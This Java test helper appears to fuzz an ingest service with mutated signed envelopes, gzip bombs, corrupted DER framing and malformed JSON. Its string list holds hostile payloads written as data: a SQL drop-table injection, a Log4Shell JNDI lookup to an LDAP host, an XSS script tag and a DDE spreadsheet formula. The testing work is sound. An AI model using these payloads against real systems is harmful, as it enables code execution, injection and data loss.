package org.openfsm.ingest;

import jakarta.json.JsonArray;
import jakarta.json.JsonObject;
import jakarta.json.JsonString;
import jakarta.json.JsonValue;
import jakarta.json.spi.JsonProvider;
import java.io.IOException;
import java.io.StringReader;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.bouncycastle.asn1.ASN1Encodable;
import org.bouncycastle.asn1.ASN1EncodableVector;
import org.bouncycastle.asn1.ASN1Encoding;
import org.bouncycastle.asn1.DERSet;
import org.bouncycastle.asn1.cms.AuthEnvelopedData;
import org.bouncycastle.asn1.cms.CMSObjectIdentifiers;
import org.bouncycastle.asn1.cms.ContentInfo;

/** What becomes of a report in the hands of somebody who means harm, drawn by a seeded random. */
final class Hostile {
    private static final List<String> TIMES = List.of(
            "0000-01-01T00:00:00Z",
            "0001-12-31T23:59:59Z",
            "1582-10-10T12:00:00Z",
            "1970-01-01T00:00:00Z",
            "2026-02-30T00:00:00Z",
            "2026-10-25T02:30:00Z",
            "2026-12-31T23:59:60Z",
            "2027-06-01T00:00:00Z",
            "9999-12-31T23:59:59Z",
            "-999999999-01-01T00:00:00Z",
            "+999999999-12-31T23:59:59Z",
            "2026-11-23T06:00:00.123Z",
            "2026-11-23T06:00:00+01:00");
    private static final List<String> NUMBERS = List.of(
            "0",
            "-1",
            "1",
            "100",
            "101",
            "32768",
            "2147483647",
            "2147483648",
            "-2147483648",
            "9007199254740991",
            "9007199254740992",
            "9223372036854775807",
            "-9223372036854775808",
            "9223372036854775808",
            "18446744073709551616",
            "00",
            "-0",
            "1.5",
            "1e3",
            "1e400",
            "1E-2147483649",
            "9".repeat(5000));
    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\\u0000",
            "a\\u0000b",
            "\\ud800",
            "x\\udc00",
            "\\ud83d\\ude00".repeat(512),
            "x" + "\\ud83d\\ude00".repeat(511),
            "x".repeat(1024),
            "x".repeat(1025),
            "x".repeat(100_000),
            "\u00df".repeat(255),
            "\u0130".repeat(1024),
            "\\\\\\\"".repeat(340),
            "\\u0001\\u001f\\u007f\\u0085",
            "\\ufffe\\uffff",
            "\\u202e\\u2066gpj.exe",
            "'; drop table device; --",
            "%_\\\\%",
            "${jndi:ldap://192.0.2.1/a}",
            "<script>alert(1)</script>",
            "=cmd|' /C calc'!A0",
            "1.3.6.1.4.1." + "4294967295.".repeat(60) + "1",
            "..1..",
            "print.color",
            "vendor.",
            "vendor." + "x".repeat(57),
            "duplex:sheets",
            "00000000-0000-0000-0000-000000000000",
            "AAAA",
            "a".repeat(64),
            "0".repeat(64),
            "receptacle",
            "consumed",
            "measured",
            "low",
            "enrolment",
            "heartbeat");
    private static final List<String> OTHERS = List.of(
            "null",
            "true",
            "false",
            "{}",
            "[]",
            "[null]",
            "[[]]",
            "{\"\":0}",
            "nul",
            "'x'",
            "NaN",
            "[".repeat(17) + "]".repeat(17),
            "[".repeat(100_000),
            "{\"a\":".repeat(2000) + "1" + "}".repeat(2000),
            "[" + "0,".repeat(1000) + "0]",
            IntStream.rangeClosed(0, 200)
                    .mapToObj(i -> "\"m" + i + "\":" + i)
                    .collect(Collectors.joining(",", "{", "}")));
    /** Members that the report at hand need not have. */
    private static final List<String> MEMBERS = List.of(
            "sequence",
            "previous",
            "clockJumpSeconds",
            "poll",
            "part",
            "parts",
            "pmdVersion",
            "nextExpectedBy",
            "nextCertificate",
            "enrolment",
            "printerIndex",
            "port",
            "hostName",
            "firmwareParts",
            "serialNumber",
            "macAddress",
            "manufacturer",
            "partNumber",
            "index",
            "level",
            "capacity",
            "percent",
            "raisedAt",
            "code",
            "groupIndex",
            "location",
            "pmd",
            "what",
            "format",
            "unknown");

    private final Random random;

    Hostile(Random random) {
        this.random = random;
    }

    private <T> T one(List<T> of) {
        return of.get(random.nextInt(of.size()));
    }

    // --- bytes

    /** Flipped, cut, longer, or with a piece of the other in it. */
    byte[] bytes(byte[] original, byte[] other) {
        var bytes = original.clone();
        switch (random.nextInt(5)) {
            case 0 -> {
                for (int flips = 1 + random.nextInt(3); flips > 0; flips--) {
                    bytes[random.nextInt(bytes.length)] ^= (byte) (1 << random.nextInt(8));
                }
            }
            case 1 -> bytes = Arrays.copyOf(bytes, random.nextInt(bytes.length));
            case 2 -> bytes = Arrays.copyOf(bytes, bytes.length + 1 + random.nextInt(100));
            case 3 -> {
                int from = random.nextInt(Math.min(bytes.length, other.length));
                System.arraycopy(other, from, bytes, from, Math.min(bytes.length, other.length) - from);
            }
            default -> random.nextBytes(bytes);
        }
        return bytes;
    }

    /** Another tag or length in the frame of a DER encoding. */
    byte[] frame(byte[] der) {
        var bytes = der.clone();
        var headers = new ArrayList<Integer>();
        for (int at = 0; at + 1 < bytes.length; ) {
            headers.add(at);
            int length = bytes[at + 1] & 0xff;
            int octets = length > 0x80 ? length & 0x7f : 0;
            boolean constructed = (bytes[at] & 0x20) != 0;
            if (octets > 0) {
                length = 0;
                for (int i = 0; i < octets; i++) {
                    length = length << 8 | bytes[at + 2 + i] & 0xff;
                }
            }
            at += 2 + octets + (constructed ? 0 : length);
        }
        int at = one(headers);
        switch (random.nextInt(4)) {
            case 0 -> bytes[at] = (byte) random.nextInt(256);
            case 1 -> bytes[at + 1] = (byte) random.nextInt(256);
            case 2 -> bytes[at + 1] = (byte) (0x80 | random.nextInt(6));
            default -> bytes[at + 1] += (byte) (random.nextBoolean() ? 1 : -1);
        }
        return bytes;
    }

    /** Recipients taken out, doubled, or by the thousand. */
    byte[] recipients(byte[] sealed) {
        var envelope =
                AuthEnvelopedData.getInstance(ContentInfo.getInstance(sealed).getContent());
        var infos = new ArrayList<ASN1Encodable>();
        envelope.getRecipientInfos().forEach(infos::add);
        switch (random.nextInt(3)) {
            case 0 -> infos.remove(random.nextInt(infos.size()));
            case 1 -> infos.add(one(infos));
            default -> {
                for (int more = one(List.of(10, 40, 3000)); more > 0; more--) {
                    infos.add(infos.get(0));
                }
            }
        }
        var vector = new ASN1EncodableVector();
        infos.forEach(vector::add);
        try {
            return new ContentInfo(
                            CMSObjectIdentifiers.authEnvelopedData,
                            new AuthEnvelopedData(
                                    null,
                                    new DERSet(vector),
                                    envelope.getAuthEncryptedContentInfo(),
                                    null,
                                    envelope.getMac(),
                                    null))
                    .getEncoded(ASN1Encoding.DER);
        } catch (IOException e) {
            throw new AssertionError("The envelope cannot be written", e);
        }
    }

    /** What is signed is not exactly one gzip, or one that is too good. */
    byte[] gzip(byte[] json) {
        var packed = Bomb.packed(json);
        switch (random.nextInt(6)) {
            case 0 -> {
                return Bomb.packed(new byte[one(List.of(1 << 20, 17 << 20))]);
            }
            case 1 -> {
                return Arrays.copyOf(packed, packed.length + 1 + random.nextInt(20));
            }
            case 2 -> {
                var two = Arrays.copyOf(packed, 2 * packed.length);
                System.arraycopy(packed, 0, two, packed.length, packed.length);
                return two;
            }
            case 3 -> {
                packed[3] = (byte) (1 << random.nextInt(8));
                return packed;
            }
            case 4 -> {
                packed[packed.length - 1 - random.nextInt(8)] ^= 1;
                return packed;
            }
            default -> {
                return bytes(packed, json);
            }
        }
    }

    // --- JSON

    /** The document with one to four places that are not as they should be. */
    String json(String document) {
        JsonValue root;
        try (var reader = JsonProvider.provider().createReader(new StringReader(document))) {
            root = reader.readValue();
        }
        int values = count(root);
        var places = new ArrayList<Integer>();
        for (int more = 1 + random.nextInt(4); more > 0; more--) {
            places.add(1 + random.nextInt(values - 1));
        }
        var out = new StringBuilder();
        new Writer(out, places).write(root);
        return out.toString();
    }

    private static int count(JsonValue value) {
        if (value instanceof JsonObject object) {
            return 1 + object.values().stream().mapToInt(Hostile::count).sum();
        }
        return value instanceof JsonArray array
                ? 1 + array.stream().mapToInt(Hostile::count).sum()
                : 1;
    }

    private final class Writer {
        private final StringBuilder out;
        private final List<Integer> places;
        private int at = -1;

        Writer(StringBuilder out, List<Integer> places) {
            this.out = out;
            this.places = places;
        }

        void write(JsonValue value) {
            at++;
            boolean leaf = !(value instanceof JsonObject || value instanceof JsonArray);
            if (places.contains(at) && (leaf || random.nextInt(10) == 0)) {
                at += count(value) - 1;
                out.append(instead(value));
            } else if (value instanceof JsonObject object) {
                members(object, places.contains(at));
            } else if (value instanceof JsonArray array) {
                elements(array, places.contains(at));
            } else {
                out.append(value);
            }
        }

        private void members(JsonObject object, boolean hostile) {
            out.append('{');
            var comma = "";
            for (var member : object.entrySet()) {
                if (hostile && random.nextInt(4) == 0) {
                    at += count(member.getValue());
                    continue; // missing
                }
                out.append(comma).append('"').append(member.getKey()).append("\":");
                write(member.getValue());
                comma = ",";
                if (hostile && random.nextInt(6) == 0) {
                    var name = random.nextInt(4) == 0 ? member.getKey() : one(MEMBERS);
                    out.append(",\"").append(name).append("\":").append(instead(member.getValue()));
                }
            }
            out.append('}');
        }

        private void elements(JsonArray array, boolean hostile) {
            out.append('[');
            var comma = "";
            for (var element : array) {
                out.append(comma);
                write(element);
                comma = ",";
                if (hostile) {
                    int times = random.nextInt(50) == 0 ? one(List.of(499, 500, 1000)) : 1;
                    out.append(("," + element).repeat(times));
                }
            }
            out.append(']');
        }
    }

    /** Mostly of the same type: what is refused for its type goes no deeper. */
    private String instead(JsonValue value) {
        int kind = random.nextInt(20);
        if (value instanceof JsonString text && kind < 18) {
            boolean time = text.getString().matches("[0-9]{4}-.*Z");
            return '"' + (time ? time() : one(TEXTS)) + '"';
        }
        if (value.getValueType() == JsonValue.ValueType.NUMBER && kind < 18) {
            return kind < 3
                    ? String.valueOf(random.nextInt(200))
                    : kind == 3 ? String.valueOf(random.nextLong()) : one(NUMBERS);
        }
        return kind == 19 ? one(OTHERS) : kind == 18 ? one(NUMBERS) : '"' + one(TEXTS) + '"';
    }

    private String time() {
        return random.nextInt(3) > 0
                ? TestServer.NOON
                        .plusSeconds(random.nextInt(40_000_000) - 30_000_000)
                        .toString()
                : one(TIMES);
    }
}
